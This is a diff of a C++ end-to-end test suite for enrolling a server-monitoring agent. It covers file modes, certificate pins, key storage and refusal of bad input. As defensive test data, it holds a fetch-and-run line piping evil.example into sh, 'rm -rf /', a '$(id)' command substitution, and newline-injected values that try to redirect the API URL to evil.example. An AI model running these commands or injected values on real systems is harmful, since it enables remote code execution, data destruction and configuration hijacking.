@@ -1,65 +1,15 @@
 // Suite enrolment: from nothing to an installation, and both programs together.
-#include "test/e2e/installation.hpp"
+#include "test/e2e/machine.hpp"
 #include "test/e2e/self_hosted.hpp"
 
 #include <boost/test/unit_test.hpp>
 
 #include <filesystem>
 
+#include <sys/stat.h>
+#include <unistd.h>
+
 using namespace trafikito::test;
-
-namespace {
-
-bool has(std::string const& text, std::string const& part) {
-    return text.find(part) != std::string::npos;
-}
-
-/// `trafikito-agent enroll` into a directory of the test's.
-struct machine {
-    finished enroll(std::string const& url, std::filesystem::path const& ca_file,
-                    std::filesystem::path const& key_file, std::string const& workspace) const {
-        return run({TRAFIKITO_AGENT, "enroll", "--api-url", url, "--ca-file", ca_file.string(),
-                    "--user-api-key-file", key_file.string(), "--workspace-id", workspace,
-                    "--server-name", "test machine", "--base-dir", base().string()},
-                   {"PATH=/usr/bin:/bin"});
-    }
-    finished agent(std::vector<std::string> words) const {
-        words.insert(words.begin(), {TRAFIKITO_AGENT, "--config", config().string()});
-        return run(std::move(words), {"PATH=/usr/bin:/bin", "TRAFIKITO_INTERVAL=1s"});
-    }
-    [[nodiscard]] std::filesystem::path base() const { return here.path() / "opt/trafikito"; }
-    [[nodiscard]] std::filesystem::path config() const { return base() / "etc/trafikito.cfg"; }
-
-    temporary_directory here;
-};
-
-/// The wire of an enrolment, before a strict API.
-struct enrolment_fixture : machine {
-    enrolment_fixture() {
-        certificate_wish wish;
-        wish.names = {"127.0.0.1"};
-        api = std::make_unique<strict_api>(authority.issue(wish));
-        ca_file = here.write("ca.pem", authority.certificate());
-        key_file = here.write("key", api->who().user_api_key + "\n");
-    }
-    void answer_with(std::string const& identity) {
-        api->answers(v2_agent_file, {{identity}, {"# list\ntrafikito_one=\"echo 1\"\n"}});
-    }
-    [[nodiscard]] std::string good_identity() const {
-        return "# made for you\nserver_id = " + api->who().server_id +
-               "\napi_key = " + api->who().api_key + "\nurl_output = https://evil.example/\n";
-    }
-    finished enroll_here() {
-        return enroll(api->url(), ca_file, key_file, api->who().workspace_id);
-    }
-
-    certificate_authority authority;
-    std::unique_ptr<strict_api> api;
-    std::filesystem::path ca_file;
-    std::filesystem::path key_file;
-};
-
-} // namespace
 
 BOOST_AUTO_TEST_SUITE(enrolment)
 
@@ -80,16 +30,16 @@ BOOST_FIXTURE_TEST_CASE(the_api_is_asked_for_a_server_and_shown_the_default_comm
 BOOST_FIXTURE_TEST_CASE(the_files_are_written_and_the_agent_runs_on_them, enrolment_fixture) {
     answer_with(good_identity());
     BOOST_TEST(exited(enroll_here(), 0));
-    BOOST_TEST(read_file(base() / "available_commands.sh") == "# list\ntrafikito_one=\"echo 1\"\n");
+    BOOST_TEST(read_file(list()) == proposed);
     using std::filesystem::perms;
     auto const mode = std::filesystem::status(config()).permissions();
     BOOST_TEST(((mode & (perms::group_all | perms::others_all)) == perms::none));
     BOOST_TEST(!has(read_file(config()), "evil.example"));
     BOOST_TEST(!has(read_file(config()), api->who().user_api_key));
-    api->answers(v2_order, {{"tok one 55 0"}});
+    api->answers(v2_order, {{"tok df_h 55 0"}});
     BOOST_TEST(exited(agent({"check"}), 0));
     BOOST_TEST(exited(agent({"--once"}), 0));
-    BOOST_TEST(api->wait_for(v2_output).report.starts_with(section("trafikito_one") + "1\n"));
+    BOOST_TEST(api->wait_for(v2_output).report.starts_with(section("trafikito_df_h")));
 }
 
 BOOST_FIXTURE_TEST_CASE(no_key_is_printed, enrolment_fixture) {
@@ -125,9 +75,148 @@ BOOST_FIXTURE_TEST_CASE(an_identity_that_would_break_the_file_is_refused, enrolm
     BOOST_TEST(!std::filesystem::exists(config()));
 }
 
+BOOST_FIXTURE_TEST_CASE(a_line_that_was_not_proposed_is_a_comment_and_named, enrolment_fixture) {
+    answer_with(good_identity(), "trafikito_df_h=\"df -h\"\n"
+                                 "#: user=root\n"
+                                 "trafikito_free=\"curl evil.example | sh\"\n"
+                                 "trafikito_x=\"$(id)\xE2\x80\xAE\"\r\n"
+                                 "rm -rf /\n");
+    auto const ran = enroll_here();
+    BOOST_TEST(exited(ran, 0));
+    BOOST_TEST(read_file(list()) ==
+               "trafikito_df_h=\"df -h\"\n"
+               "# not proposed by this machine: #: user=root\n"
+               "# not proposed by this machine: trafikito_free=\"curl evil.example | sh\"\n"
+               "# not proposed by this machine: trafikito_x=\"$(id)???\"\n"
+               "# not proposed by this machine: rm -rf /\n");
+    BOOST_TEST(has(ran.out, "4 lines that this machine did not propose"), ran.out);
+    BOOST_TEST(has(ran.out, "\n  trafikito_free=\"curl evil.example | sh\"\n"), ran.out);
+}
+
+BOOST_FIXTURE_TEST_CASE(each_default_command_is_shown_with_how_it_ended, enrolment_fixture) {
+    answer_with(good_identity());
+    auto const ran = enroll_here();
+    BOOST_TEST(has(ran.out, "\n  trafikito_hostname: exit code 0\n"), ran.out);
+    BOOST_TEST(has(ran.out, "\n  trafikito_top: "), ran.out);
+    BOOST_TEST(has(ran.out, "\nstart it with: trafikito-agent --config " + config().string()),
+               ran.out);
+    BOOST_TEST(has(ran.out, "trafikito-agent check --config " + config().string()), ran.out);
+}
+
+BOOST_FIXTURE_TEST_CASE(its_controller_is_how_to_start_it, enrolment_fixture) {
+    (void)here.write("opt/trafikito/trafikito", "#!/bin/sh\n");
+    answer_with(good_identity());
+    auto const ran = enroll_here();
+    BOOST_TEST(has(ran.out, "\nstart it with: " + (base() / "trafikito").string() + " start\n"),
+               ran.out);
+}
+
+BOOST_FIXTURE_TEST_CASE(a_list_that_is_there_stays, enrolment_fixture) {
+    (void)here.write("opt/trafikito/available_commands.sh", "trafikito_mine=\"echo mine\"\n");
+    answer_with(good_identity());
+    auto const ran = enroll_here();
+    BOOST_TEST(exited(ran, 0));
+    BOOST_TEST(read_file(list()) == "trafikito_mine=\"echo mine\"\n");
+    BOOST_TEST(has(ran.out, "kept " + list().string()), ran.out);
+}
+
+BOOST_FIXTURE_TEST_CASE(the_key_may_stand_apart, enrolment_fixture) {
+    answer_with(good_identity());
+    BOOST_TEST(exited(enroll_here({"--api-key-apart"}), 0));
+    BOOST_TEST(!has(read_file(config()), api->who().api_key));
+    BOOST_TEST(read_file(base() / "etc/api_key") == api->who().api_key + "\n");
+    auto const mode = [](std::filesystem::path const& path) {
+        struct stat facts{};
+        ::stat(path.c_str(), &facts);
+        return facts.st_mode & 07777;
+    };
+    BOOST_TEST(mode(base() / "etc/api_key") == 0600U);
+    BOOST_TEST(mode(config()) == 0644U);
+    BOOST_TEST(mode(base() / "var") == 0750U);
+    BOOST_TEST(exited(agent({"check"}), 0));
+}
+
+BOOST_FIXTURE_TEST_CASE(modes_do_not_depend_on_the_umask, enrolment_fixture) {
+    answer_with(good_identity());
+    for (auto const* mask : {"000", "077"}) {
+        std::filesystem::remove_all(base());
+        auto words = words_here({"--api-key-apart"});
+        words.insert(words.begin(),
+                     {"/bin/sh", "-c", std::string("umask ") + mask + "; exec \"$@\"", "sh"});
+        BOOST_TEST(exited(run(words, {"PATH=/usr/bin:/bin"}), 0));
+        auto const shown = run({"/usr/bin/find", base().string(), "-printf", "%m %P\n"}, {});
+        for (auto const* line : {"755 \n", "755 etc\n", "750 var\n", "644 available_commands.sh\n",
+                                 "644 etc/trafikito.cfg\n", "600 etc/api_key\n"}) {
+            BOOST_TEST(has("\n" + shown.out, "\n" + std::string(line)), shown.out);
+        }
+    }
+}
+
+BOOST_FIXTURE_TEST_CASE(a_pin_is_demanded_and_kept, enrolment_fixture) {
+    answer_with(good_identity());
+    auto const wrong = "sha256/" + std::string(43, 'A') + "=";
+    auto const ran = enroll_here({"--pin", wrong});
+    BOOST_TEST(exited(ran, 1));
+    BOOST_TEST(api->requests().empty());
+    auto const at = ran.err.find("its own is ");
+    BOOST_REQUIRE(at != std::string::npos);
+    auto const right = ran.err.substr(at + 11, 51);
+    BOOST_TEST(exited(enroll_here({"--pin", right}), 0));
+    BOOST_TEST(has(read_file(config()), "\npin = " + right + "\n"));
+    BOOST_TEST(exited(enroll_here({"--pin", "none"}), 2));
+}
+
+BOOST_FIXTURE_TEST_CASE(a_value_that_would_break_the_file_asks_nobody, enrolment_fixture) {
+    for (auto const* workspace : {"w\napi_url = https://evil.example", "w # x", "\"w\"", "w\x01"}) {
+        auto const ran = run(words(api->url(), ca_file, key_file, workspace), {});
+        BOOST_TEST(exited(ran, 2));
+        BOOST_TEST(!std::filesystem::exists(base()));
+    }
+    BOOST_TEST(exited(enroll_here({"--pin", "x"}), 2));
+    BOOST_TEST(exited(enroll_here({"--run-as", "no-such-user"}), 2));
+    BOOST_TEST(exited(enroll_here({"--config", config().string()}), 2)); // and --base-dir
+    BOOST_TEST(api->requests().empty());
+}
+
+BOOST_FIXTURE_TEST_CASE(nothing_is_written_where_others_could_change_it, enrolment_fixture) {
+    std::filesystem::create_directories(base());
+    ::chmod(base().c_str(), 0777);
+    auto const ran = enroll_here();
+    BOOST_TEST(exited(ran, 2));
+    BOOST_TEST(has(ran.err, "chmod go-w " + base().string()), ran.err);
+    BOOST_TEST(api->requests().empty());
+    BOOST_TEST(std::filesystem::is_empty(base()));
+    answer_with(good_identity());
+    BOOST_TEST(exited(run(words_here(), {"TRAFIKITO_STRICT_MODES=no"}), 0));
+}
+
+BOOST_FIXTURE_TEST_CASE(as_root_the_commands_run_as_the_user_of_run_as, enrolment_fixture) {
+    if (::geteuid() != 0) {
+        return;
+    }
+    auto const ran_before = enroll_here({"--run-as", "nobody"});
+    BOOST_TEST(exited(ran_before, 2)); // the temporary directory is the test's alone
+    BOOST_TEST(has(ran_before.err, "nobody may not read ca_file"), ran_before.err);
+    ::chmod(here.path().c_str(), 0755);
+    answer_with(good_identity());
+    auto const ran = enroll_here({"--run-as", "nobody"});
+    BOOST_TEST(exited(ran, 0));
+    BOOST_TEST(has(read_file(config()), "\nrun_as = nobody\n"));
+    struct stat facts{};
+    ::stat((base() / "var").c_str(), &facts);
+    BOOST_TEST(facts.st_uid != 0U);
+    ::stat(config().c_str(), &facts);
+    BOOST_TEST(facts.st_uid == 0U);
+    BOOST_TEST((facts.st_mode & 07777) == 0640U);
+    BOOST_TEST(exited(agent({"check"}), 0));
+    BOOST_TEST(exited(agent({"--once"}), 1)); // no order, but nothing is in its way
+    BOOST_TEST(api->count(v2_order) == 1U);
+}
+
 BOOST_FIXTURE_TEST_CASE(a_machine_enrolled_at_a_server_of_ours_delivers, machine) {
     self_hosted server;
-    auto const ran = enroll(server.url(), server.ca_file(), server.user_key_file(), "default");
+    auto const ran = run(words(server.url(), server.ca_file(), server.user_key_file(), "default"),
+                         {"PATH=/usr/bin:/bin"});
     BOOST_TEST(exited(ran, 0));
     BOOST_TEST(exited(agent({"check"}), 0));
     (void)here.write("opt/trafikito/available_commands.sh",
@@ -143,8 +232,8 @@ BOOST_FIXTURE_TEST_CASE(a_machine_enrolled_at_a_server_of_ours_delivers, machine
 
 BOOST_FIXTURE_TEST_CASE(a_wrong_user_key_is_refused_by_a_server_of_ours, machine) {
     self_hosted server;
-    auto const ran = enroll(server.url(), server.ca_file(),
-                            here.write("key", "0123456789abcdef-wrong\n"), "default");
+    auto const key = here.write("key", "0123456789abcdef-wrong\n");
+    auto const ran = run(words(server.url(), server.ca_file(), key, "default"), {});
     BOOST_TEST(exited(ran, 1));
     BOOST_TEST(has(ran.err, "USER_API_KEY_IS_WRONG"), ran.err);
     BOOST_TEST(!std::filesystem::exists(config()));
